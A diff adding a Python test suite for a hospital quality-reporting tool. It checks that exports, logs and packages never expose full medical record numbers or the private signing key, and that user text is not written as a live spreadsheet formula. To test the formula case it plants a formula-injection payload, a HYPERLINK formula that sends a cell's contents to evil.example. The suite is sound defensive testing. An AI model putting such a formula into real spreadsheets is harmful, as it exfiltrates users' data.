@@ -1,0 +1,234 @@
+"""Patient data in everything the program writes from the demo year: no full record number, no live formula, no key.
+
+Every file is searched as raw bytes (UTF-8 and UTF-16), inside its zip members (xlsx, package), and for
+PDFs also in the inflated content streams and in the text pdftotext extracts. A nurse who typed the
+record number into a description too, and formula-like text in a description, are part of the data.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import os
+import re
+import shutil
+import subprocess
+import sys
+import zipfile
+import zlib
+
+import pytest
+from sqlalchemy import select
+
+from qmsdesk.db import models as m
+
+PERIOD = "2026-10"
+RARE = "𠮷𡈽"  # outside the Basic Multilingual Plane
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+DEMO_MONTHS = [f"2025-{mo:02d}" for mo in (11, 12)] + [f"2026-{mo:02d}" for mo in range(1, 11)]
+
+
+def _pdf_texts(blob: bytes) -> list[bytes]:
+    """The PDF's inflated content streams, and its text as pdftotext reads it."""
+    out = []
+    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", blob, re.S):
+        try:
+            out.append(zlib.decompress(match.group(1)))
+        except zlib.error:
+            out.append(match.group(1))
+    if shutil.which("pdftotext"):
+        done = subprocess.run(["pdftotext", "-", "-"], input=blob, capture_output=True, timeout=120)
+        out.append(done.stdout)
+    return out
+
+
+def layers(name: str, blob: bytes) -> list[tuple[str, bytes]]:
+    """The file itself and everything readable inside it."""
+    found = [(name, blob)]
+    if blob[:2] == b"PK":
+        try:
+            with zipfile.ZipFile(io.BytesIO(blob)) as zf:
+                for info in zf.infolist():
+                    found += layers(f"{name}!{info.filename}", zf.read(info))
+        except zipfile.BadZipFile:
+            pass
+    if blob[:5] == b"%PDF-":
+        found += [(f"{name}#text{i}", t) for i, t in enumerate(_pdf_texts(blob))]
+    return found
+
+
+def leaks(files: dict[str, bytes], secrets: list[str]) -> list[str]:
+    found = []
+    for name, blob in files.items():
+        for where, data in layers(name, blob):
+            for secret in secrets:
+                for encoding in ("utf-8", "utf-16-le", "utf-16-be"):
+                    if secret.encode(encoding) in data:
+                        found.append(f"{secret} in {where} ({encoding})")
+    return found
+
+
+@pytest.fixture(scope="module")
+def demo(tmp_path_factory):
+    """The demo year in the data folder, a description that repeats its record number, a formula; and its exports."""
+    from qmsdesk.db.engine import open_database
+    from qmsdesk.demo import generate
+
+    root = tmp_path_factory.mktemp("patient")
+    data = root / "data"
+    data.mkdir()
+    base = {k: v for k, v in os.environ.items() if k not in ("QMSDESK_KEY_PASSPHRASE", "PYTHON_KEYRING_BACKEND")}
+    env = dict(base, QMSDESK_LANG="zh_CN", PYTHONIOENCODING="utf-8", QMSDESK_DATA_DIR=str(data),
+               XDG_DATA_HOME=str(root / "xdg-data"), XDG_CONFIG_HOME=str(root / "xdg-config"),
+               PYTHON_KEYRING_BACKEND="keyrings.alt.file.PlaintextKeyring", QT_QPA_PLATFORM="offscreen")
+    dbf = data / "qmsdesk.db"
+    db = open_database(dbf, actor="测试护士长")
+    with db.session() as s:
+        generate(s)
+    with db.session(skip_period_lock=True) as s:
+        events = s.scalars(select(m.AdverseEvent).where(m.AdverseEvent.medical_record_no.is_not(None))
+                           .order_by(m.AdverseEvent.occurred_at)).all()
+        october = [e for e in events if e.occurred_at.strftime("%Y-%m") == PERIOD]
+        last = october[-1]
+        last.description = f"{last.description}（病案号{last.medical_record_no}，患者{RARE}）"
+        last.analysis = FORMULA
+        mrns = sorted({e.medical_record_no for e in events})
+    db.close()
+    assert len(mrns) >= 5 and all(len(n) >= 8 for n in mrns)
+
+    def cli(*args) -> subprocess.CompletedProcess:
+        done = subprocess.run([sys.executable, "-m", "qmsdesk", *map(str, args)], env=env, capture_output=True,
+                              timeout=600)
+        return done
+
+    files: dict[str, bytes] = {}
+    done = cli("submit", "--period", PERIOD, "--db", dbf, "--accept-warnings", "已核实")
+    assert done.returncode == 0, done.stderr.decode()
+    files["submit stdout"] = done.stdout + done.stderr
+    package = next((data / "outbox").glob("*.qmspkg"))
+    files[package.name] = package.read_bytes()
+    out = root / "out"
+    out.mkdir()
+    for args in (("indicators", "template", out / "模板.xlsx", "--period", PERIOD),
+                 ("indicators", "spc", "NUR-FALL", "--from", "2025-11", "--to", PERIOD, "--pdf", out / "spc.pdf"),
+                 ("indicators", "pareto", "--from", "2025-11", "--to", PERIOD, "--pdf", out / "pareto.pdf"),
+                 ("audit", "--limit", "100000"), ("status", "--period", PERIOD), ("package", "show", package)):
+        done = cli(*args, "--db", dbf) if args[0] != "package" else cli(*args)
+        assert done.returncode == 0, (args, done.stderr.decode())
+        files[" ".join(map(str, args[:2]))] = done.stdout + done.stderr
+    for f in out.iterdir():
+        files[f.name] = f.read_bytes()
+
+    # every month's workbook, PDF and data.json, as the package would carry them
+    from qmsdesk.services.month_package import build_reports
+    from qmsdesk.sync.records import canonical_json, month_records
+
+    db = open_database(dbf, actor="测试护士长")
+    with db.session() as s:
+        for period in DEMO_MONTHS:
+            reports = build_reports(s, period, accepted_comment="已核实", charts=period == PERIOD)
+            files[f"{period}/report.xlsx"] = reports.workbook
+            files[f"{period}/report.pdf"] = reports.pdf
+            files[f"{period}/data.json"] = canonical_json(month_records(s, period))
+        s.rollback()
+    db.close()
+    return {"root": root, "data": data, "env": env, "files": files, "mrns": mrns, "october": october,
+            "package": package, "db": dbf}
+
+
+def test_no_export_holds_a_full_medical_record_number(demo):
+    assert leaks(demo["files"], demo["mrns"]) == []
+
+
+def test_the_exports_still_tell_events_apart_by_the_masked_tail(demo):
+    from qmsdesk.reports.masking import mask_record_no
+
+    workbook = demo["files"][f"{PERIOD}/report.xlsx"]
+    text = b"".join(d for _n, d in layers("x", workbook)).decode("utf-8", "replace")
+    for event in demo["october"]:
+        assert mask_record_no(event.medical_record_no) in text
+    assert RARE in text  # rare characters survive the workbook
+    assert RARE in demo["files"][f"{PERIOD}/data.json"].decode("utf-8")
+
+
+def test_the_log_and_data_folder_hold_no_full_record_number(demo, monkeypatch, capsys):
+    """A crash while a record number is in the message writes it masked (the support log is sent by e-mail)."""
+    from qmsdesk import cli
+    from qmsdesk.commands import status as status_command
+
+    monkeypatch.setenv("QMSDESK_DATA_DIR", str(demo["data"]))
+
+    def broken(_args):
+        raise RuntimeError(f"事件病案号 {demo['mrns'][0]} 汇总失败")
+
+    monkeypatch.setattr(status_command, "status_command", broken)
+    assert cli.main(["status", "--period", PERIOD, "--db", str(demo["db"])]) == 1
+    capsys.readouterr()
+    logs = {p.name: p.read_bytes() for p in demo["data"].glob("qmsdesk.log*")}
+    assert logs, "the crash was not logged"
+    assert leaks(logs, demo["mrns"]) == []
+    others = {str(p): p.read_bytes() for p in demo["data"].rglob("*")
+              if p.is_file() and not p.name.startswith("qmsdesk.db")}  # the database itself holds the full numbers
+    assert leaks(others, demo["mrns"]) == []
+
+
+def _workbooks(files: dict[str, bytes]) -> dict[str, bytes]:
+    return {n: b for n, b in files.items() if b[:2] == b"PK" and b"xl/workbook.xml" in b}
+
+
+def test_no_workbook_the_program_writes_runs_user_text_as_a_formula(demo):
+    from openpyxl import load_workbook
+
+    books = _workbooks(demo["files"])
+    with zipfile.ZipFile(demo["package"]) as zf:
+        books["package report.xlsx"] = zf.read("report.xlsx")
+    assert len(books) >= 13
+    seen_formula_text = False
+    for name, blob in books.items():
+        wb = load_workbook(io.BytesIO(blob))
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                for c in row:
+                    assert c.data_type != "f", f"{name} {ws.title}!{c.coordinate} is a formula: {c.value!r}"
+                    if isinstance(c.value, str) and "HYPERLINK" in c.value:
+                        seen_formula_text = True
+    assert seen_formula_text, "the formula-like analysis text should be in a workbook, as text"
+
+
+def _private_key_forms(raw: bytes) -> list[bytes]:
+    forms = [raw, base64.b64encode(raw), base64.urlsafe_b64encode(raw).rstrip(b"="), raw.hex().encode(),
+             raw.hex().upper().encode()]
+    return [f for f in forms if len(f) >= 32]
+
+
+def test_private_keys_never_appear_in_plaintext(demo):
+    """The unit's signing key: not in the data folder, the logs, the package or any export."""
+    from keyrings.alt.file import PlaintextKeyring
+
+    from qmsdesk.sync import crypto
+    from qmsdesk.sync.keys import KeyringStore, load_unit_key
+
+    backend = PlaintextKeyring()
+    backend.file_path = str(demo["root"] / "xdg-data" / "python_keyring" / "keyring_pass.cfg")
+    key = load_unit_key(KeyringStore(backend), *_unit_codes(demo))
+    raw = crypto.raw_private(key)
+    secrets = _private_key_forms(raw)
+    scanned = dict(demo["files"])
+    scanned.update({str(p): p.read_bytes() for p in demo["data"].rglob("*") if p.is_file()})
+    hits = []
+    for name, blob in scanned.items():
+        for where, data in layers(name, blob):
+            hits += [f"{where}: {form[:8]!r}…" for form in secrets if form in data]
+    assert hits == []
+
+
+def _unit_codes(demo) -> tuple[str, str]:
+    from qmsdesk.db.engine import open_database
+
+    db = open_database(demo["db"])
+    try:
+        with db.session() as s:
+            unit = s.scalars(select(m.Unit)).one()
+            return unit.hospital_code, unit.department_code
+    finally:
+        db.close()
